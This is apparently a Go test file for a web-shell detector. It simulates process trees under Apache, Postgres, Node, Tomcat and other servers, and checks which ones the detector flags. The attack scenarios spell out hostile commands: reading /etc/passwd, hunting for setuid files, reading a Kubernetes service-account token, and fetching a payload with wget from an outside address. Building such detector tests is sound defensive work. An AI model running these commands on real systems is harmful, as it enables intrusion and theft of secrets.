package webshell_test

import (
	"testing"
	"time"

	"github.com/bollwerk/bollwerk"
	"github.com/bollwerk/bollwerk/detect"
	"github.com/bollwerk/bollwerk/detect/detecttest"
	"github.com/bollwerk/bollwerk/detect/webshell"
)

func stories() map[string]*detecttest.Story {
	m := map[string]*detecttest.Story{}
	s := detecttest.New(detecttest.Pod("shop", "web", "php", "php:8.3-apache"))
	s.UID = 33
	a := s.Was(s.Was(nil, "/usr/sbin/apache2 -DFOREGROUND"), "/usr/sbin/apache2 -DFOREGROUND")
	for _, c := range []string{"id", "uname -a", "cat /etc/passwd", "ls -la /home", "netstat -tulpn"} {
		sh := s.Exec(a, "/usr/bin/dash=sh -c '"+c+" 2>&1'")
		s.Exec(sh, "/usr/bin/"+c)
		s.Wait(11 * time.Second)
	}
	m["attack-php-command-page"] = s

	// A database that was told COPY … FROM PROGRAM.
	s = detecttest.New(detecttest.Container("db", "postgres:16"))
	p := s.Was(nil, "/usr/lib/postgresql/16/bin/postgres")
	b := s.Was(p, "/usr/lib/postgresql/16/bin/postgres")
	s.Exec(s.Exec(b, "/usr/bin/dash=sh -c id"), "/usr/bin/id")
	s.Wait(time.Minute)
	s.Exec(s.Exec(b, "/usr/bin/dash=sh -c 'find / -perm -4000'"), "/usr/bin/find / -perm -4000")
	m["attack-postgres-program"] = s

	// A program of one's own, known as a server by what it does; a shell below it, and tools below that.
	s = detecttest.New(detecttest.Container("api", "example/api:3"))
	n := s.Was(nil, "/usr/local/bin/node /app/server.js")
	s.Listen(n, "0.0.0.0:8080")
	sh := s.Exec(n, "/usr/bin/dash=/bin/sh -c bash")
	bash := s.Exec(sh, "/usr/bin/bash")
	s.Exec(bash, "/usr/bin/whoami")
	s.Exec(bash, "/usr/bin/env")
	s.Exec(bash, "/usr/bin/cat /var/run/secrets/kubernetes.io/serviceaccount/token")
	s.Exec(bash, "/usr/bin/curl -k https://10.96.0.1/api")
	m["attack-node-child-shell"] = s

	s = detecttest.New(detecttest.Container("tomcat", "tomcat:10"))
	j := s.Was(nil, "/opt/java/openjdk/bin/java -Djava.util.logging.config.file=/usr/local/tomcat/conf/logging.properties org.apache.catalina.startup.Bootstrap start")
	s.Accept(j, "10.1.2.3:8080", "203.0.113.9:40000")
	s.Exec(j, "/usr/bin/whoami")
	s.Exec(j, "/usr/bin/id")
	s.Exec(j, "/usr/bin/wget http://203.0.113.7/a -O /tmp/a")
	m["attack-tomcat-direct"] = s

	// Behind a proxy of its own pod nobody else reaches it.
	s = detecttest.New(detecttest.Pod("shop", "web", "api", "corp/api:1"))
	api := s.Was(nil, "/usr/local/bin/node /app/server.js")
	s.Listen(api, "127.0.0.1:3000")
	for _, c := range []string{"/usr/bin/id", "/usr/bin/whoami", "/usr/bin/uname -a", "/usr/bin/cat /etc/passwd"} {
		s.Exec(s.Exec(api, "/usr/bin/dash=sh -c x"), c)
		s.Wait(time.Second)
	}
	m["attack-behind-a-proxy"] = s

	// Normal work below servers.
	s = detecttest.New(detecttest.Pod("shop", "web", "php", "php:8.3-fpm"))
	f := s.Was(s.Was(nil, "/usr/local/sbin/php-fpm"), "/usr/local/sbin/php-fpm")
	for i := 0; i < 20; i++ {
		sh := s.Exec(f, "/usr/bin/dash=sh -c '/usr/sbin/sendmail -t -i'")
		s.Exec(sh, "/usr/sbin/sendmail -t -i")
		sh = s.Exec(f, "/usr/bin/dash=sh -c 'convert in.png -resize 200x out.png'")
		s.Exec(sh, "/usr/bin/convert in.png -resize 200x out.png")
		s.Exec(f, "/usr/bin/hostname -f")
		s.Wait(20 * time.Second)
	}
	m["benign-php"] = s

	s = detecttest.New(detecttest.Container("db", "postgres:16"))
	p = s.Was(nil, "/usr/lib/postgresql/16/bin/postgres")
	for i := 0; i < 10; i++ {
		sh := s.Exec(p, "/usr/bin/dash=sh -c 'test ! -f /archive/0001 && cp pg_wal/0001 /archive/0001'")
		s.Exec(sh, "/usr/bin/cp pg_wal/0001 /archive/0001")
		s.Exec(s.Exec(p, "/usr/bin/dash=sh -c 'pgbackrest archive-push'"), "/usr/bin/pgbackrest archive-push")
		s.Wait(time.Minute)
	}
	r := s.Was(nil, "/usr/bin/redis-server *:6379")
	s.Listen(r, "0.0.0.0:6379")
	m["benign-databases"] = s

	// Entry points and health checks stand beside the server, or above it, not below it.
	s = detecttest.New(detecttest.Container("web", "nginx:1.27"))
	shim := s.Was(nil, "/usr/bin/containerd-shim-runc-v2 -id x", detecttest.From(bollwerk.OriginHost))
	en := s.Exec(shim, "/usr/bin/dash=sh /docker-entrypoint.sh nginx", detecttest.Script("/docker-entrypoint.sh"))
	s.Exec(en, "/usr/bin/id -u")
	s.Exec(en, "/usr/bin/find /docker-entrypoint.d/ -mindepth 1")
	ng := s.Become(en, "/usr/sbin/nginx -g 'daemon off;'")
	s.Listen(ng, "0.0.0.0:80")
	h := s.Exec(shim, "/usr/bin/dash=sh -c 'curl -f http://localhost/ || exit 1'")
	s.Exec(h, "/usr/bin/curl -f http://localhost/")
	// A person looks around by kubectl exec.
	k := s.Exec(shim, "/usr/bin/bash", detecttest.Term)
	for _, c := range []string{"id", "whoami", "uname -a", "cat /etc/passwd"} {
		s.Exec(k, "/usr/bin/"+c)
	}
	m["benign-beside-the-server"] = s

	// Jenkins listens, and runs what its jobs say; an exporter and a remote editor look around for a living.
	s = detecttest.New(detecttest.Host("sshd.service"))
	sd := s.Was(nil, "/usr/sbin/sshd -D")
	s.Listen(sd, "0.0.0.0:22")
	l := s.Exec(s.Exec(sd, "/usr/sbin/sshd -D -R"), "/usr/bin/bash=-bash", detecttest.Term)
	for _, c := range []string{"id", "whoami", "w", "uname -a", "ss -tlpn", "ip a", "sudo -l"} {
		s.Exec(l, "/usr/bin/"+c)
	}
	g := s.Was(nil, "/usr/bin/telegraf")
	s.Listen(g, "0.0.0.0:9273")
	for _, c := range []string{"id -u", "uname -a", "netstat -s", "ps aux", "df -h", "who", "hostname -f"} {
		s.Exec(g, "/usr/bin/"+c)
	}
	m["benign-people-and-agents"] = s
	return m
}

func TestStories(t *testing.T) { detecttest.Files(t, stories()) }

func TestContract(t *testing.T) {
	detecttest.Test(t, detecttest.Contract{New: func() detect.Detector { return webshell.New(webshell.Config{}) }, Want: map[string]detecttest.Want{
		"attack-php-command-page": {Severity: bollwerk.SeverityCritical, Message: "uname -a"},
		"attack-postgres-program": {Severity: bollwerk.SeverityHigh},
		"attack-node-child-shell": {Severity: bollwerk.SeverityCritical, Message: "node (pid"},
	}})
}

func TestAllowed(t *testing.T) {
	d := webshell.New(webshell.Config{Allowed: []string{"/usr/sbin/apache2"}})
	if got := detecttest.Run(t, d, detecttest.Read(t, "testdata/attack-php-command-page.jsonl")); len(got) != 0 {
		t.Errorf("told of an allowed server: %s", got[0].Message)
	}
}
